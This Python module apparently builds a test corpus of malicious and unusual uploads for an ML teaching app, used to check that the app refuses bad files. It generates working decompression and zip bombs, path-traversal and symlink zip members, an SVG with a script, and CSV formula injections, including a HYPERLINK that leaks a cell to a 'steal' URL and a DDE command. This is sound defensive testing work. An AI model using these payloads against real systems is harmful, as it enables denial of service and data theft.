"""A corpus of bad (and odd but good) uploads, made in memory, the same bytes every time: nothing large is committed.

    from tests.bad_input.corpus import cases, model_cases
    for case in cases("photo"):            # every case an upload of photos must handle
        case.name, case.filename, case.data, case.expect["photo"]     # "refuse" (a sentence) or "accept" (used)

Kinds, one per kind of upload the app takes (tests/bad_input/paths.py ties them to the pages' uploaders):
    photo        one photo (the Use it / What the model looks at uploaders, the camera, class-by-class photos)
    photo_zip    a zip with one folder per class ("Is it a bird?")
    seg_zip      a zip of images/, labels/ or masks/ and codes.txt (segmentation)
    csv_table    a table to predict a column of (tabular)
    csv_ratings  user, item, rating (collaborative filtering)
    model        a pair of files, weights (.safetensors) + metadata (.json), made from a real export by
                 `model_cases(weights, meta)`

    python -m tests.bad_input.corpus [folder]     lists the corpus (and writes it into `folder` to try by hand)
"""
from __future__ import annotations

import io
import json
import pickle
import stat
import struct
import sys
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import numpy as np
from PIL import Image

REFUSE, ACCEPT, EITHER = "refuse", "accept", "either"     # either: used, or refused with a sentence
KINDS = ("photo", "photo_zip", "seg_zip", "csv_table", "csv_ratings", "model")
GiB = 2**30

# Where a zip member that climbs out or starts at the root would land if anything extracted it: tests check these
# never appear (the names are this corpus's own, so no other program makes them).
ESCAPE_NAME = "lesson1_bad_input_escaped.txt"
ABSOLUTE_MEMBER = f"/etc/cron.d/{ESCAPE_NAME}"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    data: bytes
    expect: dict[str, str]                  # kind -> REFUSE | ACCEPT
    why: str = ""                           # what the case is, in a few words (the benchmark's table prints it)
    meta: bytes | None = None               # model cases: the metadata file (data is then the weights)
    meta_filename: str = "model.json"
    shows: tuple[str, ...] = field(default=())   # text an accepted case must show, as text (not markup)

    def kind_expect(self, kind: str) -> str:
        return self.expect[kind]


# ---- bytes of odd files ------------------------------------------------------------------------------------------
def _save(img: Image.Image, fmt: str, **kw) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **kw)
    return buf.getvalue()


def photo(colour=(200, 120, 40), size=(48, 36), fmt="JPEG") -> bytes:
    """A small photo-like picture: a gradient, so it is not a flat colour (a flat white would hide a bug)."""
    w, h = size
    x = np.linspace(0, 1, w)[None, :, None]
    y = np.linspace(0, 1, h)[:, None, None]
    arr = (np.asarray(colour, dtype=np.float64)[None, None, :] * (0.4 + 0.3 * x + 0.3 * y)).astype(np.uint8)
    return _save(Image.fromarray(arr, "RGB"), fmt)


def _chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int, rows: int | None = None, extra: bytes = b"") -> bytes:
    """A 1-bit greyscale PNG whose header says width x height. Its pixel data holds `rows` rows of zeros (all of
    them by default: a real decompression bomb, tiny compressed, huge decoded), so a decoder believing the header
    would allocate width x height pixels."""
    rows = height if rows is None else rows
    row = b"\x00" + bytes((width + 7) // 8)
    pixels = zlib.compressobj(9)
    idat = b"".join(pixels.compress(row) for _ in range(rows)) + pixels.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A small good PNG with a zTXt chunk that inflates to 64 MB (PIL keeps text chunks under 1 MB)."""
    good = _save(Image.new("RGB", (16, 12), (10, 120, 200)), "PNG")
    text = b"Comment\x00\x00" + zlib.compress(bytes(64 * 2**20), 9)
    return good[:33] + _chunk(b"zTXt", text) + good[33:]          # after the signature and IHDR


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is patched to say width x height."""
    data = bytearray(photo(size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def gif_claiming(width: int, height: int) -> bytes:
    """A real small GIF whose logical screen says width x height."""
    data = bytearray(_save(Image.new("P", (8, 8), 3), "GIF"))
    struct.pack_into("<HH", data, 6, width, height)
    return bytes(data)


def cmyk_jpeg() -> bytes:
    arr = np.zeros((24, 32, 4), np.uint8)
    arr[..., 0] = np.linspace(0, 255, 32)[None, :]
    arr[..., 2] = 90
    return _save(Image.fromarray(arr, "CMYK"), "JPEG")


def grey16_png() -> bytes:
    """16-bit greyscale, a dark-to-light ramp that tops out at 3/4 of the range: converted naively (PIL's
    convert("RGB") clips at 255) it turns all white."""
    arr = np.tile(np.linspace(0, 49151, 40, dtype=np.uint16), (30, 1))
    return _save(Image.fromarray(arr), "PNG")          # uint16: mode I;16


def palette_alpha_png() -> bytes:
    img = Image.new("P", (32, 24), 0)                     # index 0, see-through, around a green square
    img.putpalette([0, 0, 0, 220, 40, 40, 40, 160, 60] + [0] * (256 * 3 - 9))
    img.paste(2, (8, 6, 24, 18))
    return _save(img, "PNG", transparency=0)


def grey_alpha_png() -> bytes:
    arr = np.zeros((24, 32, 2), np.uint8)
    arr[..., 0], arr[..., 1] = 90, np.linspace(0, 255, 32)[None, :]
    return _save(Image.fromarray(arr, "LA"), "PNG")


def float_tiff() -> bytes:
    return _save(Image.fromarray(np.tile(np.linspace(0, 1, 32, dtype=np.float32), (24, 1)), "F"), "TIFF")


def animated_gif() -> bytes:
    frames = [Image.new("P", (20, 16), i * 40) for i in range(3)]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode.\r\r\n$" + \
    bytes(200)
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
       b'<script>alert(1)</script><rect width="64" height="64" fill="red"/></svg>\n')
MARKUP = ["<b>bold</b>", ":red[red]", "$x^2$", "[link](http://example.com)"]


# ---- zips ------------------------------------------------------------------------------------------------------------
def zip_of(members: list[tuple[str, bytes]] | dict[str, bytes], compress=zipfile.ZIP_DEFLATED,
           attrs: dict[str, int] | None = None, flags: dict[str, int] | None = None) -> bytes:
    """A zip of (name, bytes) members in that order, names written as given (even '../x' or '/x'); `attrs` sets a
    member's external attributes (a symbolic link...), `flags` its flag bits (0x1: encrypted)."""
    buf = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", compress) as z:
        warnings.simplefilter("ignore")                     # "Duplicate name": the point of one case
        for name, data in items:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compress
            if attrs and name in attrs:
                info.external_attr = attrs[name] << 16
            z.writestr(info, data)
    out = bytearray(buf.getvalue())
    for sig, name_len_at, name_at, flag_at in ((b"PK\x03\x04", 26, 30, 6), (b"PK\x01\x02", 28, 46, 8)):
        at = out.find(sig)
        while at >= 0:
            length = struct.unpack_from("<H", out, at + name_len_at)[0]
            name = bytes(out[at + name_at:at + name_at + length]).decode()
            if name in (flags or {}):
                struct.pack_into("<H", out, at + flag_at, struct.unpack_from("<H", out, at + flag_at)[0] | flags[name])
            at = out.find(sig, at + 4)
    return bytes(out)


def with_declared_size(data: bytes, size: int) -> bytes:
    """The zip with every member's uncompressed size, in its local and central headers, set to `size`."""
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = out.find(sig)
        while at >= 0:
            struct.pack_into("<I", out, at + offset, size)
            at = out.find(sig, at + 4)
    return bytes(out)


@lru_cache(maxsize=1)
def zeros_deflated(size: int = GiB) -> tuple[bytes, int]:
    """(raw deflate stream of `size` zero bytes, its CRC-32), built from one repeated block: ~1 MB for 1 GiB."""
    z = bytes(2**20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)      # after a full flush every block is the same bytes
    stream = first + block * (size // len(z) - 1) + c.flush()
    crc = 0
    for _ in range(size // len(z)):
        crc = zlib.crc32(z, crc)
    return stream, crc


def zip_bomb(name: str, declared: int | None = None, size: int = GiB) -> bytes:
    """A zip whose member `name` inflates to `size` zero bytes from about a megabyte; its headers say `declared`
    (the truth by default: a bomb that admits it; a small number: one that lies)."""
    stream, crc = zeros_deflated(size)
    said = size if declared is None else declared
    name_b = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(stream), said & 0xFFFFFFFF,
                        len(name_b), 0) + name_b
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(stream),
                          said & 0xFFFFFFFF, len(name_b), 0, 0, 0, 0, 0o100644 << 16, 0) + name_b
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(stream), 0)
    return local + stream + central + end


def class_folder_zip(extra: list[tuple[str, bytes]] = (), classes=("bird", "forest"), n: int = 3) -> list:
    members = [(f"{c}/{i}.jpg", photo((60 + 90 * k, 200 - 60 * k, 40 + 30 * i))) for k, c in enumerate(classes)
               for i in range(n)]
    return members + list(extra)


def mask_png(size=(48, 36), code: int = 1, mode="L") -> bytes:
    w, h = size
    m = np.zeros((h, w), np.uint8)
    m[h // 4:3 * h // 4, w // 4:3 * w // 4] = code
    return _save(Image.fromarray(m, "L").convert(mode) if mode != "L" else Image.fromarray(m, "L"), "PNG")


def seg_members(n: int = 3, codes: bytes = b"background\nthing\n", photo_size=(48, 36), mask_size=None,
                code: int = 1, mask_mode="L", drop_mask: bool = False) -> list[tuple[str, bytes]]:
    members = [("codes.txt", codes)]
    for i in range(n):
        members.append((f"images/p{i}.jpg", photo((40 * i + 60, 90, 160), photo_size)))
        if not (drop_mask and i == n - 1):
            members.append((f"labels/p{i}_P.png", mask_png(mask_size or photo_size, code, mask_mode)))
    return members


# ---- CSVs ------------------------------------------------------------------------------------------------------------
def table_rows(n: int = 80) -> list[list]:
    kinds = ["a", "b", "c"]
    return [[20 + i % 50, kinds[i % 3], round(0.5 * i, 1), "yes" if (i * 7) % 3 else "no"] for i in range(n)]


def csv_text(header: list[str], rows: list[list]) -> str:
    import csv
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


TABLE_HEADER = ["age", "kind", "score", "label"]


def good_table(n: int = 80) -> str:
    return csv_text(TABLE_HEADER, table_rows(n))


def ratings_rows(n: int = 120) -> list[list]:
    return [[f"u{i % 12}", f"movie {(i * 5) % 17}", 1 + (i * 3) % 5] for i in range(n)]


def good_ratings(n: int = 120) -> str:
    return csv_text(["user", "item", "rating"], ratings_rows(n))


FORMULAS = ['=HYPERLINK("http://example.com/steal?x="&A1,"click me")', "=1+1", "+2+3", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0"]


# ---- the corpus ------------------------------------------------------------------------------------------------------
def _photo_cases() -> list[Case]:
    good = photo()
    p = "photo"
    return [
        Case("good_jpeg", "good.jpg", good, {p: ACCEPT}, "an ordinary JPEG"),
        Case("cmyk_jpeg", "cmyk.jpg", cmyk_jpeg(), {p: ACCEPT}, "CMYK JPEG (print colours)"),
        Case("grey16_png", "grey16.png", grey16_png(), {p: ACCEPT}, "16-bit greyscale PNG"),
        Case("palette_alpha_png", "palette.png", palette_alpha_png(), {p: ACCEPT}, "palette PNG with transparency"),
        Case("grey_alpha_png", "grey_alpha.png", grey_alpha_png(), {p: ACCEPT}, "greyscale + alpha PNG"),
        Case("float_tiff", "float.tiff", float_tiff(), {p: ACCEPT}, "32-bit float TIFF"),
        Case("animated_gif", "animated.gif", animated_gif(), {p: ACCEPT}, "animated GIF (first frame used)"),
        Case("one_pixel_png", "dot.png", _save(Image.new("RGB", (1, 1), (9, 99, 199)), "PNG"), {p: ACCEPT},
             "a 1 x 1 image"),
        Case("strip_60000x1_png", "strip.png", _save(Image.new("RGB", (60000, 1), (200, 10, 10)), "PNG"),
             {p: ACCEPT}, "a 60000 x 1 strip"),
        Case("strip_1x60000_png", "column.png", _save(Image.new("RGB", (1, 60000), (10, 10, 200)), "PNG"),
             {p: ACCEPT}, "a 1 x 60000 column"),
        Case("webp", "photo.webp", photo(fmt="WEBP"), {p: ACCEPT}, "a WebP photo"),
        Case("empty", "empty.jpg", b"", {p: REFUSE}, "an empty file"),
        Case("elf_as_jpg", "photo.jpg", ELF, {p: REFUSE}, "a Linux executable renamed .jpg"),
        Case("exe_as_png", "photo.png", WINDOWS_EXE, {p: REFUSE}, "a Windows .exe renamed .png"),
        Case("svg_as_png", "drawing.png", SVG, {p: REFUSE}, "an SVG (with a script) renamed .png"),
        Case("truncated_jpeg", "cut.jpg", photo(size=(64, 48))[:300], {p: REFUSE}, "a JPEG cut short"),
        Case("truncated_png", "cut.png", _save(Image.new("RGB", (64, 48), (1, 2, 3)), "PNG")[:60], {p: REFUSE},
             "a PNG cut short"),
        Case("bomb_png_100k", "bomb.png", png_claiming(100_000, 100_000, rows=64), {p: REFUSE},
             "a PNG claiming 100000 x 100000 pixels"),
        Case("bomb_png_flood", "flood.png", png_claiming(7_000, 6_000), {p: REFUSE},
             "a real 42-megapixel PNG of zeros, 5 KB"),
        Case("bomb_jpeg_header", "bomb.jpg", jpeg_claiming(65_000, 65_000), {p: REFUSE},
             "a JPEG claiming 65000 x 65000 pixels"),
        Case("bomb_gif_header", "bomb.gif", gif_claiming(65_535, 65_535), {p: REFUSE},
             "a GIF claiming 65535 x 65535 pixels"),
        Case("text_bomb_png", "comment.png", png_with_text_bomb(), {p: REFUSE},
             "a PNG whose comment inflates to 64 MB"),
    ]


def _photo_zip_cases() -> list[Case]:
    z, s = "photo_zip", "seg_zip"
    both = lambda verdict: {z: verdict, s: verdict}               # noqa: E731
    good = class_folder_zip()
    stream, crc = zeros_deflated()
    return [
        Case("good_photo_zip", "photos.zip", zip_of(good), {z: ACCEPT}, "two class folders of photos"),
        Case("good_seg_zip", "scenes.zip", zip_of(seg_members()), {s: ACCEPT},
             "images/, labels/ and codes.txt"),
        Case("zip_empty", "empty.zip", b"", both(REFUSE), "an empty file"),
        Case("zip_exe", "photos.zip", ELF, both(REFUSE), "an executable renamed .zip"),
        Case("zip_truncated", "cut.zip", zip_of(good)[:-40], both(REFUSE), "a zip cut short"),
        Case("zip_dotdot", "climb.zip", zip_of(good + [(f"../../{ESCAPE_NAME}", b"escaped")]), both(REFUSE),
             "a member named ../../x"),
        Case("zip_absolute", "absolute.zip", zip_of(good + [(ABSOLUTE_MEMBER, b"escaped")]), both(REFUSE),
             "a member named /etc/cron.d/x"),
        Case("zip_windows_drive", "drive.zip", zip_of(good + [("C:\\Windows\\evil.jpg", photo())]), both(REFUSE),
             "a member named C:\\..."),
        Case("zip_symlink", "link.zip", zip_of(good + [("bird/passwd.jpg", b"/etc/passwd")],
                                               attrs={"bird/passwd.jpg": stat.S_IFLNK | 0o777}), both(REFUSE),
             "a symbolic link to /etc/passwd"),
        Case("zip_encrypted", "locked.zip", zip_of(good, flags={"bird/0.jpg": 0x1}), both(REFUSE),
             "an encrypted member"),
        Case("zip_bomb_declared", "bomb.zip", zip_bomb("bird/big.jpg"), both(REFUSE),
             "1 GiB of zeros from 1 MB, sizes told"),
        Case("zip_bomb_lying", "small.zip", zip_bomb("bird/small.jpg", declared=19 * 2**20), both(REFUSE),
             "1 GiB of zeros, headers say 19 MB"),
        Case("zip_bomb_lying_tiny", "tiny.zip", zip_bomb("bird/tiny.jpg", declared=100), both(REFUSE),
             "1 GiB of zeros, headers say 100 bytes"),
        Case("zip_ratio", "dense.zip", zip_of(good + [("forest/dense.jpg", bytes(5 * 2**20))]), both(REFUSE),
             "a 5 MB member that compresses 1000:1"),
        Case("zip_many_members", "many.zip", zip_of([(f"bird/{i}.txt", b"") for i in range(3_001)]), both(REFUSE),
             "3001 members"),
        Case("zip_control_chars", "ctrl.zip", zip_of(good + [("bird/a\x07b.jpg", photo())]), both(REFUSE),
             "a member name with a control character"),
        Case("zip_duplicate", "twice.zip", zip_of(good + [("bird/0.jpg", photo())]), both(REFUSE),
             "the same member twice"),
        Case("zip_in_zip", "nested.zip", zip_of([("inner.zip", zip_of(good))]), both(REFUSE), "a zip in a zip"),
        Case("zip_one_class", "one.zip", zip_of(class_folder_zip(classes=("bird",))), {z: REFUSE},
             "a single class folder"),
        Case("zip_all_bad_files", "bad.zip", zip_of([(f"{c}/{i}.jpg", bad) for c in ("bird", "forest")
                                                     for i, bad in enumerate([ELF, SVG, b"", png_claiming(
                                                         100_000, 100_000, rows=4)])]), {z: REFUSE},
             "class folders of executables, SVGs, empty files and bombs"),
        Case("zip_some_bad_files", "mixed.zip", zip_of(good + [("bird/evil.jpg", ELF), ("forest/v.png", SVG),
                                                               ("forest/bomb.png", png_claiming(100_000, 100_000,
                                                                                                rows=4))]),
             {z: ACCEPT}, "good photos with an executable, an SVG and a bomb among them"),
        Case("zip_markup_classes", "markup.zip", zip_of(class_folder_zip(classes=tuple(MARKUP[:2]))), {z: ACCEPT},
             "class folders named <b>bold</b> and :red[red]", shows=tuple(MARKUP[:2])),
        Case("zip_formula_names", "formulas.zip", zip_of(class_folder_zip(classes=("=1+1", "@SUM(A1)")) + [
            ("=1+1/-cmd.jpg", ELF)]), {z: ACCEPT}, "class folders named =1+1 and @SUM(A1), a file -cmd.jpg"),
        Case("zip_strip_photo", "strips.zip", zip_of(good + [("bird/strip.png", _save(
            Image.new("RGB", (60000, 1), (200, 10, 10)), "PNG"))]), {z: ACCEPT}, "a 60000 x 1 photo among others"),
        Case("zip_markup_refused", "markupclimb.zip", zip_of(good + [(f"{MARKUP[1]}/../../{ESCAPE_NAME}", b"x")]),
             both(REFUSE), "a member named :red[red]/../../x", shows=(MARKUP[1],)),
        # segmentation's own
        Case("seg_no_codes", "nocodes.zip", zip_of(seg_members()[1:]), {s: REFUSE}, "no codes.txt"),
        Case("seg_codes_utf16", "utf16.zip", zip_of([("codes.txt", "background\nthing\n".encode("utf-16"))] +
                                                    seg_members()[1:]), {s: REFUSE}, "codes.txt in UTF-16"),
        Case("seg_one_code", "onecode.zip", zip_of(seg_members(codes=b"background\n", code=0)), {s: REFUSE},
             "codes.txt names one class"),
        Case("seg_mask_size", "masksize.zip", zip_of(seg_members(mask_size=(20, 20))), {s: REFUSE},
             "masks of another size than their photos"),
        Case("seg_mask_code", "maskcode.zip", zip_of(seg_members(code=7)), {s: REFUSE},
             "a mask code codes.txt does not name"),
        Case("seg_mask_rgb", "maskrgb.zip", zip_of(seg_members(mask_mode="RGB")), {s: REFUSE}, "RGB masks"),
        Case("seg_missing_mask", "nomask.zip", zip_of(seg_members(drop_mask=True)), {s: REFUSE},
             "a photo without its mask"),
        Case("seg_mask_bomb", "maskbomb.zip", zip_of(seg_members()[:-1] + [
            ("labels/p2_P.png", png_claiming(100_000, 100_000, rows=4))]), {s: REFUSE},
             "a mask claiming 100000 x 100000 pixels"),
        Case("seg_one_photo", "onephoto.zip", zip_of(seg_members(n=1)), {s: REFUSE}, "a single photo"),
        Case("seg_markup_codes", "markupcodes.zip", zip_of(seg_members(codes="\n".join(
            ["background", MARKUP[0], MARKUP[1]]).encode())), {s: ACCEPT},
             "codes named <b>bold</b> and :red[red]", shows=tuple(MARKUP[:2])),
        Case("seg_strip_photo", "segstrip.zip", zip_of(seg_members() + [
            ("images/strip.png", _save(Image.new("RGB", (60000, 1), (9, 9, 9)), "PNG")),
            ("labels/strip_P.png", _save(Image.new("L", (60000, 1), 1), "PNG"))]), {s: ACCEPT},
             "a 60000 x 1 photo and its mask among others"),
    ]


def _csv_cases() -> list[Case]:
    t, r = "csv_table", "csv_ratings"
    both = lambda verdict: {t: verdict, r: verdict}               # noqa: E731
    table, ratings = good_table(), good_ratings()
    wide = ",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join("1" for _ in range(100_000)) + "\n"
    infinite = csv_text(TABLE_HEADER + ["size"], [row + [v] for row, v in zip(
        table_rows(), ["inf", "-inf", "NaN", "1e309", "", "-1e309"] * 20)])
    formulas_table = csv_text(["note", "score", "label"],
                              [[FORMULAS[i % len(FORMULAS)], i, "yes" if i % 3 else "no"] for i in range(80)])
    formulas_ratings = csv_text(["user", "item", "rating"],
                                [[f"u{i % 12}", FORMULAS[i % len(FORMULAS)], 1 + i % 5] for i in range(120)])
    markup_table = csv_text([MARKUP[0], "score", MARKUP[1]],
                            [[MARKUP[i % 4], i, MARKUP[2] if i % 3 else MARKUP[3]] for i in range(80)])
    latin1 = csv_text(["ville", "score", "label"], [["Besançon" if i % 2 else "Orléans", i, "oui" if i % 3 else
                                                     "non"] for i in range(80)]).encode("latin-1")
    latin1_ratings = csv_text(["user", "item", "rating"], [[f"u{i % 12}", f"Amélie {(i * 5) % 17}", 1 + i % 5]
                                                           for i in range(120)]).encode("latin-1")
    no_target = csv_text(TABLE_HEADER, [row[:3] + [""] for row in table_rows()])
    return [
        Case("good_table", "table.csv", table.encode(), {t: ACCEPT}, "a good table"),
        Case("good_ratings", "ratings.csv", ratings.encode(), {r: ACCEPT}, "good ratings"),
        Case("csv_empty", "empty.csv", b"", both(REFUSE), "an empty file"),
        Case("csv_blank_lines", "blank.csv", b"\n\n  \n", both(REFUSE), "only blank lines"),
        Case("csv_exe", "table.csv", ELF, both(REFUSE), "an executable renamed .csv"),
        Case("csv_xlsx", "table.csv", zip_of([("xl/workbook.xml", b"<workbook/>")]), both(REFUSE),
             "an Excel workbook renamed .csv"),
        Case("csv_broken_quotes", "quotes.csv", (table + 'x,"never closed,1,yes\n' + table).encode(),
             both(REFUSE), "a quote never closed"),
        Case("csv_utf16", "utf16.csv", table.encode("utf-16"), {t: REFUSE}, "UTF-16 (Excel's Unicode text)"),
        Case("csv_utf16_ratings", "utf16.csv", ratings.encode("utf-16"), {r: REFUSE}, "UTF-16 ratings"),
        Case("csv_latin1", "latin1.csv", latin1, {t: REFUSE}, "latin-1 text (accents)"),
        Case("csv_latin1_ratings", "latin1.csv", latin1_ratings, {r: REFUSE}, "latin-1 ratings"),
        Case("csv_header_only", "header.csv", b"age,kind,score,label\n", both(REFUSE), "a header and no rows"),
        Case("csv_one_row", "onerow.csv", good_table(1).encode(), {t: REFUSE}, "a single row"),
        Case("csv_one_rating", "onerating.csv", good_ratings(1).encode(), {r: REFUSE}, "a single rating"),
        Case("csv_one_column", "onecol.csv", b"label\n" + b"yes\nno\n" * 40, both(REFUSE), "a single column"),
        Case("csv_no_target", "notarget.csv", no_target.encode(), {t: REFUSE}, "the target column is blank"),
        Case("csv_no_rating", "norating.csv", csv_text(["user", "item"], [r[:2] for r in ratings_rows()]).encode(),
             {r: REFUSE}, "no rating column"),
        Case("csv_100k_columns", "wide.csv", wide.encode(), both(REFUSE), "100,000 columns"),
        Case("csv_inf_nan", "infinite.csv", infinite.encode(), {t: ACCEPT}, "inf, -inf, NaN and 1e309 in a "
             "number column"),
        Case("csv_inf_rating", "infrating.csv", csv_text(["user", "item", "rating"], ratings_rows()[:-1] + [
            ["u1", "movie 1", "1e309"]]).encode(), {r: REFUSE}, "a rating of 1e309"),
        Case("csv_nan_ratings", "nanrating.csv", csv_text(["user", "item", "rating"], ratings_rows() + [
            ["u1", "movie 2", "NaN"], ["u2", "movie 3", ""]]).encode(), {r: ACCEPT}, "NaN and blank ratings"),
        Case("csv_formulas", "formulas.csv", formulas_table.encode(), {t: ACCEPT}, "formula cells (=HYPERLINK...)",
             shows=("=1+1",)),
        Case("csv_formula_items", "formulas.csv", formulas_ratings.encode(), {r: ACCEPT},
             "formula cells as item names", shows=("=1+1",)),
        Case("csv_markup", "markup.csv", markup_table.encode(), {t: ACCEPT}, "markup in column names and values",
             shows=(MARKUP[1],)),
        Case("csv_markup_ratings", "markup.csv", csv_text(["user", MARKUP[1], "rating"], [
            [f"u{i % 12}", MARKUP[i % 4] + str(i % 9), 1 + i % 5] for i in range(120)]).encode(), {r: ACCEPT},
             "markup in the item column's name and in item names", shows=(MARKUP[1],)),
        Case("csv_markup_refused", "markupbad.csv", csv_text(["x", MARKUP[1]], [[1, "a"]] * 60).encode(),
             {t: REFUSE}, "markup in the name of a target with a single value", shows=(MARKUP[1],)),
        Case("csv_semicolons", "semi.csv", table.replace(",", ";").encode(), {t: ACCEPT},
             "separated by semicolons"),
        Case("csv_many_classes", "classes.csv", csv_text(["x", "label"], [[i, f"c{i}"] for i in range(80)]).encode(),
             {t: REFUSE}, "80 different targets"),
    ]


def cases(kind: str | None = None) -> list[Case]:
    """Every case (made once per process), or those for one kind of upload."""
    every = _all_cases()
    return [c for c in every if kind is None or kind in c.expect]


@lru_cache(maxsize=1)
def _all_cases() -> tuple[Case, ...]:
    every = _photo_cases() + _photo_zip_cases() + _csv_cases()
    assert len({c.name for c in every}) == len(every), "two cases share a name"
    return tuple(every)


def case(name: str) -> Case:
    return next(c for c in _all_cases() if c.name == name)


# ---- model files, from a real export ---------------------------------------------------------------------------------
def safetensors_claiming(header: dict, data: bytes = b"") -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _wrong_types(meta: dict) -> dict:
    """Every value of the metadata replaced by one of another type (lists become a string, numbers a list...)."""
    swap = {str: 12345, int: "many", float: [1.5], bool: "yes", list: "a, b", dict: [1, 2], type(None): {"x": 1}}
    return {k: swap.get(type(v), None) for k, v in meta.items()}


def _lying(meta: dict) -> dict:
    """Every number in the metadata a million times larger, every list 100,000 items longer: a file that
    describes a model far bigger than its weights."""
    def grow(v):
        if isinstance(v, bool):
            return v
        if isinstance(v, int):
            return v * 1_000_000 + 1
        if isinstance(v, float):
            return v * 1e6
        if isinstance(v, list):
            return [grow(x) for x in v] + [f"x{i}" for i in range(100_000)]
        if isinstance(v, dict):
            return {k: grow(x) for k, x in v.items()}
        return v
    return grow(meta)


def _not_finite(meta: dict) -> dict:
    """Every decimal number in the metadata NaN, every whole number Infinity (Python's JSON writes and reads both)."""
    def swap(v):
        if isinstance(v, bool):
            return v
        if isinstance(v, float):
            return float("nan")
        if isinstance(v, int):
            return float("inf")
        if isinstance(v, list):
            return [swap(x) for x in v]
        if isinstance(v, dict):
            return {k: swap(x) for k, x in v.items()}
        return v
    return swap(meta)


def model_cases(weights: bytes, meta: bytes) -> list[Case]:
    """Bad model files built from one real export (the weights and metadata a lesson's page downloads): the real
    pair is accepted, every other pair is refused with a sentence."""
    m = "model"
    parsed = json.loads(meta)
    header_len = struct.unpack("<Q", weights[:8])[0]
    header = json.loads(weights[8:8 + header_len])
    tensors = {k: v for k, v in header.items() if k != "__metadata__"}
    first = next(iter(tensors))
    huge_tensor = dict(header, **{first: dict(tensors[first], shape=[2**31, 2**31],
                                              data_offsets=[0, 2**62])})
    renamed = {("renamed." + k if k != "__metadata__" else k): v for k, v in header.items()}
    bad_weights = [
        ("w_pickle", pickle.dumps({"state_dict": {"w": [1.0, 2.0]}, "__reduce__": "os.system"}),
         "a pickle posing as weights"),
        ("w_torch_zip", zip_of([("archive/data.pkl", pickle.dumps({"w": 1})), ("archive/version", b"3\n")]),
         "a torch.save zip posing as weights"),
        ("w_empty", b"", "empty weights"),
        ("w_exe", ELF, "an executable renamed .safetensors"),
        ("w_truncated", weights[:len(weights) // 2], "weights cut in half"),
        ("w_header_huge", struct.pack("<Q", 2**62) + weights[8:], "a header claiming 2^62 bytes"),
        ("w_header_not_json", struct.pack("<Q", 12) + b"{not json!!}" + weights[8 + header_len:],
         "a header that is not JSON"),
        ("w_tensor_huge", safetensors_claiming(huge_tensor, weights[8 + header_len:]),
         "a tensor claiming 2^31 x 2^31 values"),
        ("w_other_names", safetensors_claiming(renamed, weights[8 + header_len:]),
         "weights of another model (other names)"),
    ]
    bad_meta = [
        ("m_empty", b"", "empty metadata"),
        ("m_not_json", b"{this is not json", "metadata that is not JSON"),
        ("m_pickle", pickle.dumps(parsed), "a pickle posing as metadata"),
        ("m_deep", b"[" * 100_000 + b"]" * 100_000, "JSON nested 100,000 deep"),
        ("m_deep_dict", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "JSON objects nested 50,000 deep"),
        ("m_list", b"[1, 2, 3]", "a JSON list, not an object"),
        ("m_wrong_types", json.dumps(_wrong_types(parsed)).encode(), "every value of the wrong type"),
        ("m_nulls", json.dumps({k: None for k in parsed}).encode(), "every value null"),
        ("m_lying_sizes", json.dumps(_lying(parsed)).encode(), "sizes a million times larger"),
        ("m_nan", json.dumps(_not_finite(parsed)).encode(), "every number NaN or Infinity"),
        ("m_huge_int", meta.replace(b"{", b'{"huge": ' + b"9" * 5000 + b", ", 1), "a 5000-digit number"),
    ]
    out = [Case("model_good", "model.safetensors", weights, {m: ACCEPT}, "the model's own export", meta=meta)]
    out += [Case(name, "model.safetensors", data, {m: REFUSE}, why, meta=meta) for name, data, why in bad_weights]
    out += [Case(name, "model.safetensors", weights, {m: REFUSE}, why, meta=data) for name, data, why in bad_meta]
    out += [Case("m_utf16", "model.safetensors", weights, {m: EITHER}, "the right metadata, in UTF-16",
                 meta=meta.decode().encode("utf-16"))]
    return out


def model_case_names() -> list[str]:
    """The model cases' names, known before any model is trained (for parametrised tests)."""
    weights = safetensors_claiming({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
    return [c.name for c in model_cases(weights, b'{"vocab": ["a", "b"], "size": 8}')]


